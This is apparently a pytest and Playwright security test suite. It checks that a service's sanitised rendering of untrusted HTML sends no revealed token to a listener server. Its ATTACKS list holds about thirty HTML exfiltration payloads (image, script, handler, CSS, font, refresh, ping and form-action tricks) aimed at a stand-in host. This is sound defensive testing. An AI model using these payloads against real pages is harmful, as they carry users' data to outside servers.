"""Opened values do not leave by a document of the service's: in a real browser, with a server that listens for them."""

import http.server
import threading
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page

from browser import ARTIFACTS, PATIENCE, open_and_unlock, open_page, problem, unlock
from demo_service import Report, Server
from firefox import Firefox

# TEXT stands for a token where it is to be opened, DROPPED for one where it is not.
# What reaches the listener of a page that is shown as it comes, by the path under which it does; of those with an
# element `go`, once that is clicked.
ATTACKS = {
    "image": "<p>TEXT</p><img src=EVIL/image?DROPPED>",
    "handler": "<img src=x onerror=\"fetch('EVIL/handler?DROPPED')\">",
    "script": "<script src=EVIL/script?DROPPED></script>",
    "inline": "<p>TEXT</p><script>fetch('EVIL/inline?DROPPED')</script>",
    "style": "<link rel=stylesheet href=EVIL/style?DROPPED>",
    "import": "<style>@import 'EVIL/import?DROPPED';</style>",
    "font": "<style>@font-face{font-family:f;src:url(EVIL/font?DROPPED)}p{font-family:f}</style><p>TEXT</p>",
    "background": "<p style=\"background:url(EVIL/background?DROPPED)\">TEXT</p>",
    "sources": "<picture><source srcset=EVIL/sources?DROPPED><img></picture>",
    "table": "<table background=EVIL/table?DROPPED><tr><td>TEXT</table>",
    "within": "<iframe srcdoc='<img src=EVIL/within?DROPPED>'></iframe>",
    "focus": "<input autofocus onfocus=\"fetch('EVIL/focus?DROPPED')\">",
    "toggle": "<details open ontoggle=\"fetch('EVIL/toggle?DROPPED')\">DROPPED</details>",
    "module": "<link rel=modulepreload href=EVIL/module?DROPPED>",
    "prefetch": "<link rel=prefetch href=EVIL/prefetch?DROPPED>",
    "preload": "<link rel=preload as=image href=EVIL/preload?DROPPED>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh?DROPPED'><p>TEXT</p>",
    "base": "<base href=EVIL/base/?DROPPED><img src=base>",
    "frame": "<iframe src=EVIL/frame?DROPPED>DROPPED</iframe>",
    "object": "<object data=EVIL/object?DROPPED>DROPPED</object>",
    "embed": "<embed src=EVIL/embed?DROPPED>",
    "vector": "<svg><image href=EVIL/vector?DROPPED /><text>DROPPED</text></svg>",
    "poster": "<video poster=EVIL/poster?DROPPED>DROPPED</video>",
    "input": "<input type=image src=EVIL/input?DROPPED>",
    "link": "<p>TEXT <a id=go href=EVIL/link?DROPPED>DROPPED</a></p>",
    "ping": "<a id=go href=# ping=EVIL/ping?DROPPED>DROPPED</a>",
    "submit": "<form action=EVIL/submit><textarea name=v hidden>DROPPED</textarea><button id=go>Next</button>",
    "select": "<form action=EVIL/select method=post><select name=v><option>DROPPED</select><button id=go>Go</button>",
    "formaction": "<form id=f></form><button id=go form=f formaction=EVIL/formaction name=v value=DROPPED>Go</button>",
}
# Every place of a document, also those of which nothing is loaded.
PLACES = """<!doctype html><!-- DROPPED --><html lang=DROPPED><head><title>DROPPED</title><meta name=x content=DROPPED>
<noscript><style>DROPPED</style></noscript></head><body class=DROPPED onload='"DROPPED"'><!--DROPPED-->
<h1 title=DROPPED>TEXT</h1><h2>TEXT</h2><h6>TEXT</h6>
<table summary=DROPPED><caption>DROPPED</caption><thead><tr><th scope=DROPPED>TEXT</thead>
<tbody><tr><td data-x=DROPPED>TEXT<td><b>TEXT</b><i id=DROPPED>TEXT</i><br><pre>TEXT</pre></table>
<ul><li>TEXT</ul><ol><li value=1>TEXT</ol><div contenteditable>TEXT<span>TEXT</span>, also in TEXT.TEXT</div>
<template>DROPPED<p>DROPPED</p></template><noscript><p>DROPPED</p></noscript><textarea>DROPPED</textarea>
<math><mtext>DROPPED</mtext></math><svg><p>TEXT</p><title>DROPPED</title><desc>DROPPED<table><td>DROPPED</table></desc>
</svg><dialog open>DROPPED</dialog><details><summary>DROPPED</summary>DROPPED</details><select><option>DROPPED
<optgroup label=DROPPED></select><script type=text/plain>DROPPED</script><style>/* DROPPED */</style>
<x-element>DROPPED</x-element><main>DROPPED<p>DROPPED</p></main><p>cut: TE<!-- -->XT</p><button>DROPPED</button>
<p>ekt1_short</p><xmp><p>DROPPED</p></xmp><plaintext>DROPPED"""
ALLOWED = {*"table thead tbody tr th td p h1 h2 h3 h4 h5 h6 ul ol li div span b i br pre".split()}

Shown = dict[str, Any]


class Listener:
    """A server of somebody else's; it answers whatever it is asked, and knows what that was."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._changed = threading.Condition()
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                with listener._changed:
                    listener.heard.append(self.path)
                    listener._changed.notify_all()
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.address = f"http://127.0.0.1:{self._server.server_port}"

    def hears(self, name: str) -> bool:
        """Whether it is asked for a path of this name, sooner or later."""
        with self._changed:
            return self._changed.wait_for(
                lambda: any(path.startswith(f"/{name}") for path in self.heard), PATIENCE / 1000)

    def close(self) -> None:
        self._server.shutdown()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def token(report: Report) -> str:
    return next(str(agent["name"]) for agent in report["agents"] if agent["name"])


def agent_of(report: Report, name: str) -> str:
    """The agent whose name a token is."""
    return next(agent["agent_id"] for agent in report["agents"] if agent["name"] == name)


def with_token(text: str, token: str, listener: Listener) -> str:
    filled = text.replace("TE<!-- -->XT", f"{token[:9]}<!-- -->{token[9:]}")
    return filled.replace("TEXT", token).replace("DROPPED", token).replace("EVIL", listener.address)


def frames(page: Page) -> list[Shown]:
    """What stands in each frame: its text, its policy, and of its elements names and attributes."""
    shown: list[Shown] = page.evaluate("""() => [...document.querySelectorAll("iframe")].map((frame) => {
      const { head, body } = frame.contentDocument;
      const attributes = [...body.parentNode.querySelectorAll("*")].flatMap((one) =>
        (one === head.firstElementChild ? [] : one.getAttributeNames()));
      return {
        sandbox: frame.getAttribute("sandbox"), text: body.textContent, policy: head.innerHTML, attributes,
        names: [...body.querySelectorAll("*")].map((one) => one.localName), shown: body.getBoundingClientRect().height,
      };
    })""")
    return shown


def counts(page: Page) -> list[str]:
    page.wait_for_function(
        "document.querySelectorAll('.document').length === document.querySelectorAll('.counts').length")
    return page.locator(".document .counts").all_inner_texts()


def said(text: str) -> str:
    """The line below a document that has these places."""
    opened, dropped = text.count("TEXT"), text.count("DROPPED")
    return f"{opened} texts opened" + (f", {dropped} unsafe_context" if dropped else "")


@pytest.mark.parametrize("name", ATTACKS)
def test_a_document_that_is_shown_as_it_comes_reaches_the_listener(
        page: Page, server: Server, listener: Listener, token: str, name: str) -> None:
    """What the next test holds against: the listener hears, and the browser does what the document asks."""
    page.goto(server.offer_document(f"{name}.html", with_token(ATTACKS[name], token, listener)), wait_until="commit")
    if "id=go" in ATTACKS[name]:
        page.click("#go", no_wait_after=True)
    assert listener.hears(name)


def test_nothing_reaches_the_listener_from_a_document_that_is_made_anew(
        page: Page, server: Server, report: Report, listener: Listener, token: str) -> None:
    """R-18.2-1, R-18.2-2, R-18.2-3: by loading, clicking, keys, submitting, styles, fonts, prefetching, pinging."""
    for name, text in ATTACKS.items():
        server.offer_document(f"{name}.html", with_token(text, token, listener))
    address = server.offer("attacked.json", report, [f"{name}.html" for name in ATTACKS])
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    open_and_unlock(page, address)
    page.wait_for_function(f"document.querySelectorAll('.counts').length === {len(ATTACKS)}")
    assert counts(page) == [said(text) for text in ATTACKS.values()]
    for frame in page.query_selector_all("iframe"):
        frame.scroll_into_view_if_needed()
        box = frame.bounding_box()
        assert box is not None
        for across in range(4, int(box["width"]), 40):
            for down in range(4, max(5, int(box["height"])), 12):
                page.mouse.click(box["x"] + across, box["y"] + down)
        for key in ("Tab", "Enter", "Space"):
            page.keyboard.press(key)
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(1000)
    places = {urlsplit(url).netloc for url in asked if not url.startswith("data:")}
    assert (listener.heard, places) == ([], {urlsplit(address).netloc})
    assert page.url == address and len(page.context.pages) == 1


# What Firefox does not do unless its user asks for it.
FIREFOX_LEAVES = {"ping", "prefetch"}


def test_in_firefox_what_is_shown_as_it_comes_reaches_the_listener(
        firefox_page: Firefox, server: Server, listener: Listener, token: str) -> None:
    """What the next test holds against."""
    for name, text in ATTACKS.items():
        firefox_page.goto(server.offer_document(f"{name}.html", with_token(text, token, listener)))
        if "id=go" in text:
            firefox_page.click("#go")
        assert name in FIREFOX_LEAVES or listener.hears(name)


def test_in_firefox_nothing_reaches_the_listener_from_a_document_that_is_made_anew(
        firefox_page: Firefox, server: Server, report: Report, listener: Listener, token: str) -> None:
    """R-18.2-1, R-18.2-2, R-18.2-3: by loading, clicking, keys, submitting, styles, fonts, prefetching, pinging."""
    for name, text in ATTACKS.items():
        server.offer_document(f"{name}.html", with_token(text, token, listener))
    address = server.offer("attacked.json", report, [f"{name}.html" for name in ATTACKS])
    open_and_unlock(firefox_page, address)
    firefox_page.wait_for_function(f"document.querySelectorAll('.counts').length === {len(ATTACKS)}")
    lines = firefox_page.evaluate("[...document.querySelectorAll('.document .counts')].map((one) => one.innerText)")
    assert lines == [said(text) for text in ATTACKS.values()]
    for number in range(len(ATTACKS)):
        left, top, width, height = firefox_page.evaluate("""(number) => {
          const frame = document.querySelectorAll("iframe")[number];
          frame.scrollIntoView({ block: "center" });
          const { left, top, width, height } = frame.getBoundingClientRect();
          return [left, Math.max(top, 0), width, Math.min(height, innerHeight)].map(Math.round);
        }""", number)
        firefox_page.press([(left + across, top + down) for across in range(4, width, 80)
                            for down in range(4, max(5, height), 12)], ["\ue004", "\ue007", " "])
    assert firefox_page.evaluate("fetch('?').then(({ ok }) => ok)")  # the same connection pool has served all before
    assert listener.heard == [] and firefox_page.tabs() == 1
    assert firefox_page.url == address


def test_a_document_is_made_anew_of_elements_of_the_list_and_text(
        page: Page, server: Server, report: Report, listener: Listener, token: str) -> None:
    """R-18.2-2, R-18.2-3, R-18.2-5. What is dropped is told, and not opened; the rest is labelled."""
    server.offer_document("places.html", with_token(PLACES, token, listener))
    open_and_unlock(page, server.offer("places.json", report, ["places.html"]))
    line, = counts(page)
    made, = frames(page)
    value = page.locator(f'.person[data-agent="{agent_of(report, token)}"] .name').inner_text()
    places = PLACES.replace("<!-- -->", "")
    assert line == f"{said(places)}, 1 truncated"
    assert made["text"].count(value) == places.count("TEXT") and token not in made["text"]
    assert f"cut: {value}" in made["text"]
    assert set(made["names"]) <= ALLOWED and made["attributes"] == []
    assert made["policy"] == ("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; "
                              "form-action 'none'; base-uri 'none'\">")
    assert made["sandbox"] == "allow-same-origin" and made["shown"] > 0
    assert page.inner_text(".document h2") == "Document of the service, unverified"
    page.locator(".document").screenshot(path=ARTIFACTS / "document.png")


def test_opened_values_are_in_no_attribute_of_the_page(
        page: Page, server: Server, report: Report, listener: Listener, token: str) -> None:
    """R-18.2-1."""
    server.offer_document("places.html", with_token(PLACES, token, listener))
    open_and_unlock(page, server.offer("places.json", report, ["places.html"]))
    counts(page)
    values = page.locator(".opened").all_inner_texts()
    assert len(values) > 20
    attributes = page.evaluate("""() => [document, ...[...document.querySelectorAll("iframe")]
      .map((frame) => frame.contentDocument)].flatMap((one) => [...one.querySelectorAll("*")])
      .flatMap((one) => [...one.attributes].map(({ value }) => value))""")
    assert [value for value in values for one in attributes if value in one and len(value) > 3] == []


def test_a_document_of_another_origin_is_not_asked_for(
        page: Page, server: Server, report: Report, listener: Listener) -> None:
    address = server.offer("foreign.json", report, [f"{listener.address}/week.html"])
    open_page(page, address)
    unlock(page)
    assert "origin of this page" in problem(page)
    assert listener.heard == []
